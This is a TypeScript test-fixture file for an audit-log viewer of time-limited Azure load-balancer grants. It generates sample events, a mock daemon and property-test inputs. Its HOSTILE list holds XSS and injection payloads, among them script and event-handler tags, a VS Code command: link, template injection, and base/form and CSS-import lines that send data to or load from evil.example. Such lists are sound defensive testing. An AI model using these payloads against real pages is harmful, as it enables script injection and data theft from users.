import { createHash } from 'node:crypto';
import fc from 'fast-check';
import type { AskDaemon } from '../../extension/audit/record.ts';
import { type AuditBody, type AuditEvent, type AuditFilter, AuditKind, chain, NO_EVENT_BEFORE } from '../../protocol/audit.ts';
import type { GrantId, PersonId, RequestId, ResourceId, RoleId } from '../../protocol/ids.ts';
import type { Params, Result } from '../../protocol/messages.ts';
import type { Grant } from '../../protocol/model.ts';

const sha256 = (text: string) => createHash('sha256').update(text).digest('hex');
const uuid = (kind: number, n: number) => `00000000-0000-4000-8${String(kind).padStart(3, '0')}-${String(n).padStart(12, '0')}`;

export const grantId = (n: number) => uuid(1, n) as GrantId;
export const requestId = (n: number) => uuid(2, n) as RequestId;

const NAMES = ['Alice Marlow', 'Ben Okafor', 'Chiara Rossi', 'Dmitri Volkov', 'Esi Mensah', 'Farid Haddad', 'Grace Lindqvist'];
export const person = (n: number) => {
  const name = NAMES[n % NAMES.length] ?? 'Nobody';
  return { id: `person-${n % NAMES.length}` as PersonId, name, email: `${name.split(' ')[0]?.toLowerCase()}@example.com` };
};

const BALANCERS = ['prod-edge', 'prod-checkout', 'staging-edge', 'payments-internal', 'search-gateway'];
export const balancer = (n: number) => {
  const name = BALANCERS[n % BALANCERS.length] ?? 'edge';
  const id = `azure:/subscriptions/s1/resourcegroups/net/providers/microsoft.network/loadbalancers/${name}` as ResourceId;
  return { id, name, kind: 'Load balancer', balancerId: id, balancerName: name };
};

const ROLE = { id: 'backends' as RoleId, title: 'Backend pools', enforcement: 'native' as const };

export const START = Date.UTC(2026, 10, 23, 9, 0, 0);

/** What central writes about one grant, from request to gone. `n` picks person, balancer and time. */
export function storyBodies(n: number, startAt = START + n * 60_000): AuditBody[] {
  const who = {
    person: person(n),
    resource: balancer(n),
    role: ROLE,
    requestId: requestId(n),
    reason: 'Drain web-2 before the kernel update',
  };
  const at = (seconds: number) => ({ at: startAt + seconds * 1_000, boot: 3_600_000 + n * 60_000 + seconds * 1_000 });
  const grant = { grantId: grantId(n) };
  const decision = {
    outcome: 'granted' as const,
    because: 'Network operators may take Backend pools on production for 15 minutes',
    wouldChange: [],
    rules: ['operators-backends'],
    policyVersion: '3f9a1c77',
    at: startAt + 1_000,
  };
  return [
    { kind: 'request.created', text: `Asked for Backend pools on ${who.resource.name} for 15 min`, ticket: 'CHG-4711', ...who, ...at(0) },
    { kind: 'request.decided', text: 'Granted at once by rule operators-backends', decision, ...who, ...at(0.4) },
    { kind: 'grant.intended', text: 'Asking Azure for the role assignment', ...who, ...grant, ...at(0.5) },
    { kind: 'grant.assigned', text: 'Azure has assigned the role', ...who, ...grant, ...at(3) },
    { kind: 'grant.usable', text: 'The right was used successfully for the first time', ...who, ...grant, ...at(11) },
    { kind: 'lease.taken', text: 'The daemon holds the grant', ...who, ...grant, ...at(11.2) },
    { kind: 'grant.ending', text: 'Taking it back: its time is up', ...who, ...grant, ...at(900) },
    { kind: 'grant.gone', text: 'Azure denies access', lateBy: 1_400, lateAfter: 'due', ...who, ...grant, ...at(901.4) },
  ];
}

/** Bodies as one source would record them. */
export function recorded(bodies: Iterable<AuditBody>, source = 'central', after = 0): AuditEvent[] {
  const events: AuditEvent[] = [];
  let prev = NO_EVENT_BEFORE;
  let seq = after;
  for (const body of bodies) {
    const event = chain(body, { source, seq: ++seq, prev }, sha256);
    prev = event.hash;
    events.push(event);
  }
  return events;
}

/** So many events of stories that follow each other until `end`, oldest first. The chain is not computed: this is for size, not for proof. */
export function many(count: number, end = START): AuditEvent[] {
  const events: AuditEvent[] = [];
  for (let n = 0; events.length < count; n++) {
    for (const body of storyBodies(n, end - Math.ceil(count / 8 - n) * 60_000 - 901_400)) {
      if (events.length < count)
        events.push({ ...body, source: 'central', seq: events.length + 1, prev: NO_EVENT_BEFORE, hash: sha256(String(events.length)) });
    }
  }
  return events;
}

/** A record that answers as the daemon does. `events` may grow while it is asked. */
export function recordOf(events: AuditEvent[], before: () => void = () => undefined): AskDaemon {
  const answer = async (method: string, params: unknown): Promise<unknown> => {
    before();
    if (method === 'audit.facets') return facetsOf(events);
    if (method === 'audit.chains') return chainsOf(events);
    if (method === 'audit.signed') return { lines: [] };
    if (method === 'audit.read') return readFrom(events, params as Params<'audit.read'>);
    const { filter, offset, limit } = params as { filter: AuditFilter; offset: number; limit: number };
    const all = Object.keys(filter).length === 0 ? events : events.filter(matching(events, filter));
    const end = Math.max(0, all.length - offset);
    return { total: all.length, events: all.slice(Math.max(0, end - limit), end).reverse() };
  };
  return answer as AskDaemon;
}

function matching(events: readonly AuditEvent[], filter: AuditFilter): (event: AuditEvent) => boolean {
  const ofGrant = new Set(events.filter((event) => filter.grantId && event.grantId === filter.grantId).map((event) => event.requestId));
  ofGrant.delete(undefined);
  return (event) => matches(event, filter, ofGrant);
}

const bySeq = (a: AuditEvent, b: AuditEvent) => a.seq - b.seq;

function chainsOf(events: readonly AuditEvent[]): Result<'audit.chains'> {
  const chains = [...Map.groupBy(events, ({ source }) => source)].map(([source, chain]) => {
    const [first = chain[0] as AuditEvent, ...rest] = chain.toSorted(bySeq);
    return { source, first: first.seq, last: (rest.at(-1) ?? first).seq, at: first.at };
  });
  return { chains };
}

function readFrom(events: readonly AuditEvent[], { filter, chains, limit }: Params<'audit.read'>): Result<'audit.read'> {
  const wanted = matching(events, filter);
  const found: AuditEvent[] = [];
  const reached: { source: string; seq: number }[] = [];
  let left = limit;
  for (const { source, after, to } of chains) {
    if (left === 0) break;
    const looked = events
      .filter((event) => event.source === source && event.seq > after && event.seq <= to)
      .sort(bySeq)
      .slice(0, left);
    left -= looked.length;
    found.push(...looked.filter(wanted));
    reached.push({ source, seq: looked.at(-1)?.seq ?? after });
  }
  return { events: found, reached };
}

/** As the daemon does it: a grant's events begin with those of its request. */
function matches(event: AuditEvent, filter: AuditFilter, ofGrant: Set<string | undefined>): boolean {
  const text = filter.text?.toLowerCase();
  return (
    (filter.person === undefined || event.person?.id === filter.person) &&
    (filter.balancer === undefined || event.resource?.balancerId === filter.balancer) &&
    (filter.grantId === undefined || event.grantId === filter.grantId || ofGrant.has(event.requestId)) &&
    (filter.requestId === undefined || event.requestId === filter.requestId) &&
    (filter.kind === undefined || event.kind === filter.kind) &&
    (text === undefined || `${event.text} ${event.reason ?? ''} ${event.ticket ?? ''}`.toLowerCase().includes(text))
  );
}

function facetsOf(events: AuditEvent[]) {
  const people = new Map(events.flatMap(({ person: who }) => (who ? [[who.id as string, { id: who.id as string, name: who.name }]] : [])));
  const balancers = new Map(
    events.flatMap(({ resource }) =>
      resource ? [[resource.balancerId as string, { id: resource.balancerId as string, name: resource.balancerName }]] : [],
    ),
  );
  return { people: [...people.values()], balancers: [...balancers.values()], kinds: [...new Set(events.map(({ kind }) => kind))] };
}

/** The grant of story `n`, as a daemon knows it. */
export const grantOf = (n: number, more: Partial<Grant> = {}): Grant => ({
  id: grantId(n),
  requestId: requestId(n),
  authority: 'central',
  resource: balancer(n),
  role: ROLE,
  holder: person(n),
  mine: true,
  reason: 'Drain web-2 before the kernel update',
  state: 'usable',
  createdAt: START,
  notAfter: START + 900_000,
  extendable: { ok: true },
  ...more,
});

/** Texts that would run, break out or deceive if anything took them for more than text. */
export const HOSTILE = [
  '<script>window.pwned = 1</script>',
  '<img src=x onerror="window.pwned = 1">',
  '"><svg/onload=window.pwned=1>',
  'javascript:window.pwned=1',
  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
  '<a href="command:workbench.action.quit">x</a>',
  '</script><script>window.pwned=1</script>',
  '<style>@import url(https://evil.example/x.css);</style>',
  '<vscode-button onclick="window.pwned=1">x</vscode-button>',
  '{{constructor.constructor("window.pwned=1")()}}',
  '<base href="https://evil.example/"><form action="https://evil.example"><input name=q></form>',
  '\u202egnp.exe\u2066 ‮reversed',
  'line one\nline two\r\n\ttabbed \u0000\u0007\u001b[31m',
  '\ud800 lone surrogate',
  '&lt;b&gt; &#x3c;script&#x3e;',
] as const;

const text = fc.oneof(fc.string({ unit: 'binary', maxLength: 40 }), fc.constantFrom(...HOSTILE));
const anyPerson = fc.record(
  { id: text as fc.Arbitrary<PersonId>, name: text, email: fc.oneof(fc.emailAddress(), text) },
  { requiredKeys: ['id', 'name'] },
);

/** Any event that the rules of the record let through. */
export const anyBody: fc.Arbitrary<AuditBody> = fc.record(
  {
    kind: fc.constantFrom(...AuditKind.options),
    at: fc.double({ min: 0, max: 8.64e15, noNaN: true }),
    boot: fc.nat(),
    text,
    person: anyPerson,
    resource: fc.record({
      id: text as fc.Arbitrary<ResourceId>,
      name: text,
      kind: text,
      balancerId: text as fc.Arbitrary<ResourceId>,
      balancerName: text,
    }),
    role: fc.record({ id: text as fc.Arbitrary<RoleId>, title: text, enforcement: fc.constantFrom('native' as const, 'guarded' as const) }),
    requestId: fc.uuid() as fc.Arbitrary<RequestId>,
    grantId: fc.uuid() as fc.Arbitrary<GrantId>,
    reason: text,
    ticket: text,
    decision: fc.record({
      outcome: fc.constantFrom('granted' as const, 'needs approval' as const, 'refused' as const),
      because: text,
      wouldChange: fc.array(text, { maxLength: 2 }),
      rules: fc.array(text, { maxLength: 2 }),
      policyVersion: text,
      at: fc.nat(),
    }),
    approvedBy: fc.array(anyPerson, { maxLength: 2 }),
    lateBy: fc.nat(),
    lateAfter: fc.constantFrom('asked' as const, 'due' as const),
    data: fc.dictionary(fc.string(), fc.oneof(text, fc.integer(), fc.boolean()), { maxKeys: 3 }),
  },
  { requiredKeys: ['kind', 'at', 'boot', 'text'] },
);
